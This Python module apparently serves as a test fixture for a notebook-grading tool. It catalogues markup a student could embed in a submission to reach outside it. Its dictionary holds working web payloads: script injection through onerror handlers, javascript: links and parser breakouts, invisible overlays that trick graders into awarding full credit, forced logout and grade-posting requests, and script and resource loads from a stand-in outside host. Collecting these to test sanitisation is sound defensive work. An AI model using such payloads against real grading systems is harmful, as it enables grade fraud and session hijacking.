"""What a student may write into a text in order to reach beyond it: markup that needs no program, and more."""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.invalid"
"""A machine that does not exist; a request to it is seen all the same."""

HOST = ("check_mean_rows", "check_centre", "why")
"""Names of the grade cells of the course that the tests use, by which formgrader finds its fields."""

_IDS = "".join(f'<span id="{name}"></span>' for name in HOST)
_FULL = '<a class="full-credit modal-backdrop fade">x</a>'

MARKUP = {
    # formgrader's script binds its clicks within the element of the class nbgrader_cell that holds the id.
    "credit_behind_an_invisible_link": f'<div class="nbgrader_cell">{_IDS}{_FULL}</div>',
    "credit_behind_a_word": f'<div class="nbgrader_cell">{_IDS}<b class="full-credit">read on</b></div>',
    "credit_behind_a_picture": f'<div class="nbgrader_cell">{_IDS}<img class="full-credit" alt="plot"></div>',
    "credit_behind_a_heading": f'<div class="nbgrader_cell">{_IDS}<h1 class="full-credit">Answer</h1></div>',
    "credit_behind_a_table": f'<table class="nbgrader_cell"><tr><td>{_IDS}<p class="full-credit">x</p></table>',
    "credit_in_details": f'<details open class="nbgrader_cell"><summary class="full-credit">{_IDS}x</details>',
    "credit_by_resolving": f'<div class="nbgrader_cell">{_IDS}<u class="mark-graded">x</u></div>',
    "no_credit_for_others": f'<div class="nbgrader_cell">{_IDS}<i class="no-credit">x</i></div>',
    "a_score_field": f'<div class="nbgrader_cell">{_IDS}<input class="score tabbable" value="3"></div>',
    "a_comment_field": '<div class="nbgrader_cell"><textarea id="why-comment" class="comment">x</textarea>',
    "extra_credit": f'<div class="nbgrader_cell">{_IDS}<input class="extra-credit tabbable" value="9"></div>',
    "ids_by_name": "".join(f'<a name="{name}" class="full-credit">x</a>' for name in HOST),
    "an_id_by_a_heading": "\n\n".join(f"# {name}" for name in HOST),
    "an_id_by_a_heading_of_html": "".join(f"<h2 id={name}>x</h2>" for name in HOST),
    "the_status_message": '<div id="statusmessage" class="full-credit">saved</div>',
    "a_help_sign": '<div class="help"><span class="glyphicon">x</span></div>',
    "out_of_its_cell": '</div></div></div></div><div class="nbgrader_cell full-credit">x</div>',
    "out_of_a_table": f"<table><tr><td></table></div></div>{_IDS}{_FULL}",
    "an_unclosed_link": '<a class="full-credit modal-backdrop fade" href="#">',
    "an_unclosed_attribute": '<a class="full-credit href="x',
    "a_label_for_a_field": "".join(f'<label for="{name}">x</label>' for name in HOST),
    "toggles_of_bootstrap": '<a data-toggle="modal" data-target="#notebook" data-remote="/logout">x</a>',
    "a_tooltip_of_bootstrap": '<a data-toggle="tooltip" data-html="true" title="<img src=/logout>">x</a>',
    "a_link_of_the_host": '<a data-link="../../logout" class="name-shown">x</a>',
    "a_covering_style": '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    "a_style_sheet": "<style>*{display:none} input{background:url(/logout)}</style>",
    "a_linked_style_sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/a.css">',
    "a_covering_class": '<div class="modal modal-backdrop in navbar-fixed-top">x</div>',
    "a_wide_picture": '<img alt="x" width="99999999" height="99999999">',
    "a_font": '<font size="99" color="white" class="modal-backdrop">x</font>',
    "a_key": '<a accesskey="f" tabindex="0" href="/logout">x</a>',
    "an_editable_text": '<p contenteditable autofocus onfocus="steal()">x</p>',
    # What a page loads by itself.
    "a_picture_that_logs_out": "![plot](/logout)",
    "a_picture_that_logs_out_of_the_hub": "![plot](../../../../hub/logout)",
    "a_picture_from_elsewhere": f"![plot]({ELSEWHERE}/a.png)",
    "a_picture_without_a_scheme": "![plot](//elsewhere.invalid/a.png)",
    "a_picture_of_html": f'<img src="{ELSEWHERE}/b.png" alt="plot">',
    "a_picture_with_a_set": f'<img srcset="{ELSEWHERE}/c.png 2x" alt="plot">',
    "a_picture_for_each_width": f'<picture><source srcset="{ELSEWHERE}/d.png"><img alt="plot"></picture>',
    "a_background": f'<table background="{ELSEWHERE}/e.png"><tr><td background="{ELSEWHERE}/f.png">x</table>',
    "a_video": f'<video poster="{ELSEWHERE}/g.png" src="{ELSEWHERE}/h.mp4" autoplay></video>',
    "an_audio": f'<audio src="{ELSEWHERE}/i.mp3" autoplay></audio>',
    "an_object": f'<object data="{ELSEWHERE}/j.svg"></object><embed src="{ELSEWHERE}/k.svg">',
    "a_frame": f'<iframe src="{ELSEWHERE}/l.html"></iframe><iframe srcdoc="<script>steal()</script>"></iframe>',
    "a_picture_in_svg": f'<svg><image href="{ELSEWHERE}/m.png"/><use href="{ELSEWHERE}/n.svg#a"/></svg>',
    "a_field_that_is_a_picture": f'<input type="image" src="{ELSEWHERE}/o.png">',
    "a_base": f'<base href="{ELSEWHERE}/">',
    "a_refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/p">',
    "an_early_lookup": f'<link rel="dns-prefetch" href="{ELSEWHERE}"><link rel="prefetch" href="/logout">',
    "a_picture_of_a_script": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InN0ZWFsKCkiLz4=' alt='x'>",
    "a_missing_attachment": "![plot](attachment:none.png)",
    "a_file_above": "![plot](../../../gradebook.db.png)",
    # Where a click would lead.
    "a_form": '<form action="/formgrader/api/grade" method="post"><button>x</button></form>',
    "a_button_for_a_form_elsewhere": '<button form="any" formaction="/logout">x</button>',
    "a_link_that_logs_out": "[the next page](/logout)",
    "a_link_that_loads_a_configuration": "[my plot](/formgrader?path=submitted/ann/means)",
    "a_link_without_a_scheme": "[x](//elsewhere.invalid/a)",
    "a_link_that_pings": f'<a href="#x" ping="{ELSEWHERE}/ping" target="_top" download>x</a>',
    "an_area": '<map name="m"><area href="/logout" coords="0,0,999,999"></map><img usemap="#m" alt="x">',
    # Programs.
    "a_script": "<script>steal()</script>",
    "a_script_from_elsewhere": f'<script src="{ELSEWHERE}/q.js"></script>',
    "a_script_in_a_link": "[x](javascript:steal())",
    "a_script_in_a_disguised_link": "[x](java&#115;cript:steal()) [y](JaVaScRiPt:steal()) [z](\x01javascript:)",
    "a_script_in_data": "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "a_picture_that_fails": "<img src=x onerror=steal()>",
    "a_picture_that_fails_in_markdown": '![x](x"onerror="steal())',
    "an_svg_that_loads": "<svg onload=steal()>",
    "mathematics_with_a_link": '<math href="javascript:steal()"><mtext><img src=x onerror=steal()></math>',
    "a_noscript_that_ends_early": '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    "a_template": "<template><img src=x onerror=steal()></template>",
    "an_xmp": "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>",
    "a_comment_that_ends_early": "<!--><img src=x onerror=steal()>-->",
    "a_section_of_data": "<![CDATA[><img src=x onerror=steal()>]]>",
    "a_formula_with_markup": r"$\text{<img src=x onerror=steal()>}$ $\href{javascript:steal()}{x}$",
    "a_formula_in_an_attribute": '<b title="$x$ onmouseover=steal()">x</b>',
    "a_fence_with_a_language": '```python" onmouseover="steal()\nx\n```',
    "a_diagram": '```mermaid\ngraph TD; A-->B; click A href "javascript:steal()"\n```',
    "a_cell_of_a_table": "|a|b|\n|-|-|\n|<img src=x onerror=steal()>|x|",
}
"""A text for each way, by its name."""
